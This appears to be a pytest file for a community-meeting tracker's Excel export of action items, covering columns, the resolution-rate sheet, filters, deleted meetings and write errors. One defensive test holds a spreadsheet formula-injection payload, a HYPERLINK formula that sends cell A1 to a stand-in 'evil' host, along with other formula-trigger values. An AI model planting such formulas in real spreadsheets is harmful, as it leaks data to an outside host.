"""The three lists to .xlsx, read back with openpyxl: the street office's columns, one row per
item of a year of meetings as the test recorded them, its progress log, its source meeting
(deleted meetings said so), filters by party and open items, the resolution-rate sheet, and
cells that would run as formulas written as text."""

from __future__ import annotations

import datetime as dt
from fractions import Fraction

import openpyxl
import pytest

from desktop.core.tasks import TaskContext
from desktop.meetings.actions import ActionDraft, add_action
from desktop.meetings.export import export_actions
from desktop.meetings.service import delete_meeting
from desktop.meetings.tracking import format_rate
from desktop.roster.demo import generate_demo
from desktop.roster.exporting.export import ExportError
from tests.meetings.year import TODAY, build_year

HEADERS = ("No.", "Problem", "Responsible unit", "Responsible person", "Remedy", "Due",
           "Status", "Progress", "Source meeting")
STATUS = {"open": "To do", "in_progress": "In progress", "done": "Done", "closed": "Closed"}
PARTY = {"community": "Community", "owners_committee": "Owners' committee",
         "property_company": "Property company", "other": "Other"}


@pytest.fixture
def year(db):
    generate_demo(db, residents=300, seed=5, ctx=TaskContext())
    return build_year(db)


def _export(db, path, **options):
    with db.reading() as session:
        return export_actions(session, path, today=TODAY, **options)


def _sheet(path, name="Action items"):
    rows = list(openpyxl.load_workbook(path)[name].iter_rows(values_only=True))
    return rows[0], rows[1:]


def test_every_item_one_row_as_the_street_office_asks(year, db, tmp_path):
    _meetings, truth = year
    out = tmp_path / "三张清单.xlsx"
    done = _export(db, out)
    header, rows = _sheet(out)
    live = [t for t in truth if not t.deleted]
    assert header == HEADERS and done.items == len(rows) == len(live)
    assert [r[0] for r in rows] == list(range(1, len(rows) + 1))
    by_problem = {r[1]: r for r in rows}
    assert set(by_problem) == {t.problem for t in live}  # each problem is unique
    for t in live:
        row = by_problem[t.problem]
        assert row[2] == PARTY[t.party]  # no unit's name given: the party
        due = row[5].date() if row[5] is not None else None
        assert due == t.due
        overdue = t.status in ("open", "in_progress") and t.due is not None and t.due < TODAY
        assert row[6] == STATUS[t.status] + (", overdue" if overdue else "")
        if t.origin_meeting:
            assert row[8] == f"翠苑一区三方联席会议 ({t.opened_on.isoformat()})"
    complaint = by_problem["居民投诉：夜间施工噪音"]
    assert complaint[8] == "12345工单" and complaint[5] is None
    reopened = next(t for t in truth if t.reopened)
    log = by_problem[reopened.problem][7].split("\n")
    assert any(line.endswith("Reopened: 复查发现未整改到位") for line in log)
    assert any("→ Closed" in line for line in log)
    assert all(line[:10] == dt.date.fromisoformat(line[:10]).isoformat() for line in log)


def test_rates_sheet_gives_the_tracker_figures(year, db, tmp_path):
    _meetings, truth = year
    out = tmp_path / "rates.xlsx"
    _export(db, out)
    header, rows = _sheet(out, "Resolution rate")
    assert header[0] == "Month" and len(rows) == 12 * 5  # four parties and all, a month each
    live = [t for t in truth if not t.deleted and t.due is not None]
    for month, unit, due, on_time, rate in rows:
        year_, number = map(int, month.split("-"))
        items = [t for t in live if (t.due.year, t.due.month) == (year_, number)
                 and (unit == "All" or PARTY[t.party] == unit)
                 and (t.due < TODAY or t.resolved_on is not None)]
        good = [t for t in items if t.resolved_on is not None and t.resolved_on <= t.due]
        assert (due, on_time) == (len(items), len(good))
        assert rate == format_rate(Fraction(len(good), len(items)) if items else None)


def test_filters_by_party_and_open_items(year, db, tmp_path):
    _meetings, truth = year
    live = [t for t in truth if not t.deleted]
    out = tmp_path / "property.xlsx"
    done = _export(db, out, party="property_company", open_only=True)
    _header, rows = _sheet(out)
    wanted = {t.problem for t in live if t.party == "property_company" and t.status != "closed"}
    assert {r[1] for r in rows} == wanted and done.items == len(wanted) > 0
    _header, rates = _sheet(out, "Resolution rate")
    assert {r[1] for r in rates} == {"Property company"}


def test_deleted_meeting_shown_as_the_origin(year, db, tmp_path):
    meetings, truth = year
    with db.unit_of_work("测试") as uow:
        delete_meeting(uow, meetings[0])
    out = tmp_path / "deleted.xlsx"
    _export(db, out)
    _header, rows = _sheet(out)
    first = {t.problem for t in truth if t.origin_meeting == meetings[0] and not t.deleted}
    assert first and all(r[8] == "a deleted meeting" for r in rows if r[1] in first)


def test_formulas_are_written_as_text(db, tmp_path):
    with db.unit_of_work("测试") as uow:
        add_action(uow, ActionDraft('=HYPERLINK("http://evil/?"&A1,"点击")', "other",
                                    remedy="+1+1", responsible_unit="@SUM(1)",
                                    responsible_person="-2"), opened_on=dt.date(2026, 3, 1))
    out = tmp_path / "hostile.xlsx"
    _export(db, out)
    book = openpyxl.load_workbook(out)
    cells = [c for row in book["Action items"].iter_rows(min_row=2) for c in row[1:5]]
    assert [c.value for c in cells] == ['\'=HYPERLINK("http://evil/?"&A1,"点击")', "'@SUM(1)",
                                        "'-2", "'+1+1"]
    assert all(c.data_type == "s" for c in cells)


def test_a_file_that_cannot_be_written_is_a_clear_error_and_leaves_nothing(db, tmp_path):
    out = tmp_path / "out"
    out.mkdir()
    missing = out / "no such folder" / "清单.xlsx"
    with pytest.raises(ExportError, match="does not exist"):
        _export(db, missing)
    assert not missing.parent.exists()
    folder = out / "a folder.xlsx"
    folder.mkdir()
    with pytest.raises(ExportError, match="is a folder"):
        _export(db, folder)
    assert list(out.iterdir()) == [folder] and not list(folder.iterdir())
